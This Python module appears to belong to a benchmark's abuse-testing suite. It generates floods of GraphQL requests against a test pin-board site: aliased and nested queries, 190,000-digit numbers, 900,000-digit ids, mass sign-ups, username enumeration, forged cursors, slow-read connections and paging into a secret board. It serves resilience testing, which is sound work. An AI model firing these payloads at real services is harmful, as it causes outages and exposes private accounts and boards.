"""Attacks by operations that read or write much, or have large answers."""

from __future__ import annotations

import random

from bench.abuse.attacks.attacker import Attack, Attacker, flood, several
from bench.abuse.attacks.shapes import COMMENTS_OF_COMMENTS, counts, pages_of_pins, times
from bench.abuse.attacks.wire import post
from bench.abuse.site import Facts


def _secret_pages(facts: Facts, number: int) -> bytes:
    """Pages for the attacker after a place at which a secret board's pins begin."""
    query = "query ($after: String) { pins(first: 1, after: $after) { edges { cursor } } }"
    if number % 2:
        page = "pins(first: 1, after: $after) { edges { cursor } }"
        query = f"query ($after: String) {{ {times(30, page)} }}"
    token = {"authorization": f"Bearer {facts.stranger}"}
    return post({"query": query, "variables": {"after": facts.cursor}}, token)


def _large(facts: Facts, number: int) -> bytes:
    return post(
        {
            "query": "{ users(first: 100) { edges { node { id fullName about followers(first: 60) "
            "{ edges { node { id } } } } } } }"
        }
    )


def _nodes_of_pins(facts: Facts, number: int) -> bytes:
    ids = ", ".join([f'"{facts.boards[0]}"'] * 100)
    inner = "id"
    for _ in range(3):
        inner = f"... on Board {{ pins {{ edges {{ node {{ board {{ {inner} }} }} }} }} }}"
    return post({"query": f"{{ nodes(ids: [{ids}]) {{ {inner} }} }}"})


def _dearest(facts: Facts, number: int) -> bytes:
    """Operations just below the limit on cost."""
    return post({"query": pages_of_pins(30)})


def _counts(facts: Facts, number: int) -> bytes:
    return post({"query": counts(100)})


def _comments(facts: Facts, number: int) -> bytes:
    return post({"query": COMMENTS_OF_COMMENTS})


def _sign_ups(facts: Facts, number: int) -> bytes:
    name = f"m{random.getrandbits(50)}"
    fields = " ".join(
        f'a{n}: signUp(input: {{username: "{name}x{n}"}}) {{ token }}' for n in range(30)
    )
    return post({"query": f"mutation {{ {fields} }}"})


def _sign_up(facts: Facts, number: int) -> bytes:
    name = f"m{random.getrandbits(50)}"
    return post({"query": f'mutation {{ signUp(input: {{username: "{name}"}}) {{ token }} }}'})


def _feeds(facts: Facts, number: int) -> bytes:
    feed = "homeFeed(first: 25) { edges { node { title board { name } } } }"
    return post(
        {"query": f"{{ {times(24, feed)} }}"}, {"authorization": f"Bearer {facts.stranger}"}
    )


def _forged_seen(facts: Facts, number: int) -> bytes:
    feed = f'homeFeed(first: 1, seen: "{random.getrandbits(62)}") {{ edges {{ cursor }} }}'
    return post(
        {"query": f"{{ {times(20, feed)} }}"}, {"authorization": f"Bearer {facts.stranger}"}
    )


def _cursors(facts: Facts, number: int) -> bytes:
    """Long cursors of text that resembles a cursor."""
    after = ("a" * 5_000 + "!=" + "MTIzNDU2" * 1_000)[number % 1_000 :]
    page = "pins(first: 1, after: $after) { edges { cursor } }"
    query = f"query ($after: String) {{ {times(30, page)} }}"
    return post({"query": query, "variables": {"after": after}})


def _large_ints(facts: Facts, number: int) -> bytes:
    digits = "9" * 190_000
    if number % 2:
        return post({"query": f"{{ pins(first: {digits}) {{ edges {{ cursor }} }} }}"})
    return post(
        b'{"query":"query ($n: Int) { pins(first: $n) { edges { cursor } } }","variables":{"n":'
        + digits.encode()
        + b"}}"
    )


def _many_ids(facts: Facts, number: int) -> bytes:
    """A variable of 20,000 ids where 100 are allowed."""
    return post(
        {
            "query": "query ($ids: [ID!]!) { nodes(ids: $ids) { id } }",
            "variables": {"ids": [str(10**14 + n) for n in range(40_000)]},
        }
    )


def _traces(facts: Facts, number: int) -> bytes:
    """Ask for the trace of an operation with hundreds of store calls."""
    page = "pins(first: 20) { edges { node { board { owner { id } } comments(first: 1) { edges { "
    page += "cursor } } } } }"
    return post({"query": f"{{ {times(20, page)} }}"}, {"x-pinway-trace": "1"})


def _long_ids(facts: Facts, number: int) -> bytes:
    fields = times(30, "node(id: $id) { id }")
    query = f"query ($id: ID!) {{ {fields} }}"
    return post({"query": query, "variables": {"id": f"{number}" + "9" * 900_000}})


def _user_names(facts: Facts, number: int) -> bytes:
    """Thirty user names in a request, to find out which exist."""
    fields = " ".join(f'a{n}: user(username: "user{number * 30 + n}") {{ id }}' for n in range(30))
    return post({"query": f"{{ {fields} }}"})


def _ids_of_all_shards(facts: Facts, number: int) -> bytes:
    """Ids that no object has, on all shards: none is in a cache."""
    ids = [str(n << 46 | 1 << 36 | number + 10**9) for n in range(100)]
    query = f"query ($ids: [ID!]!) {{ {times(5, 'nodes(ids: $ids) { id }')} }}"
    return post({"query": query, "variables": {"ids": ids}})


def _again_from_a_cursor(facts: Facts, number: int) -> bytes:
    """The longest page after one cursor, repeatedly."""
    page = "pins(first: 100, after: $after) { edges { cursor node { title } } }"
    query = f"query ($after: String) {{ {times(8, page)} }}"
    return post({"query": query, "variables": {"after": facts.cursor}})


def _searches(facts: Facts, number: int) -> bytes:
    """Searches in one request whose words have typing errors and whose prefixes are short, so that
    each of them compares many words of the index."""
    alphabet = "etaoinshrdlucmfwypvbgk"
    start = alphabet[number % len(alphabet)]
    fields = " ".join(
        f'a{n}: search(text: "{start}zq{n}wxk {start}ovnetian", first: 1) {{ edges {{ cursor }} }} '
        f'b{n}: suggest(prefix: "{start}", first: 1) {{ text }}'
        for n in range(10)
    )
    return post({"query": f"{{ {fields} }}"})


async def _unread_answers(attacker: Attacker) -> None:
    """Request large answers, and read a few bytes of them each second."""

    async def one() -> None:
        while attacker.going:
            connection = await attacker.open()
            if connection is None:
                continue
            connection.writer.write(_large(attacker.facts, 0))
            while await attacker.wait(0.5) and await connection.reader.read(64):
                pass
            connection.close()

    await several([one() for _ in range(32)])


ATTACKS: list[Attack] = [
    flood("pages of a secret board", _secret_pages),
    flood("large answers", _large, 8),
    Attack("large answers read slowly", _unread_answers),
    flood("nodes(100) of pins of boards of pins", _nodes_of_pins),
    flood("operations as dear as allowed", _dearest, 100),
    flood("100 aliases of a count", _counts),
    flood("comments of comments", _comments),
    flood("signUp, 30 in a request", _sign_ups),
    flood("signUp, one in a request", _sign_up),
    flood("aliases of homeFeed", _feeds),
    flood("forged seen tokens", _forged_seen),
    flood("cursors of garbage", _cursors),
    flood("numbers of 190,000 digits", _large_ints),
    flood("ids of 900,000 digits", _long_ids, 8),
    flood("user names tried", _user_names),
    flood("traces", _traces),
    flood("ids of all shards", _ids_of_all_shards),
    flood("searches for misspelled words", _searches),
    flood("one cursor again and again", _again_from_a_cursor),
    flood("40,000 ids in a variable", _many_ids, 8),
]
